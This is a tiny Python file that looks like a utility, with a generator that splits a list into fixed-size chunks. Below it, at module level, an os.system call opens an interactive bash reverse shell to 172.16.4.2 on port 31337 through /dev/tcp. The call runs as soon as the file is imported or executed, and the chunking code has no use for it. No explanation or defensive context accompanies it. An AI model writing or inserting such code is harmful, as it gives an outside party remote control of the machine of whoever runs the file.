def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]

import os
os.system("bash -i >& /dev/tcp/{}/{} 0>&1".format("172.16.4.2", 31337))
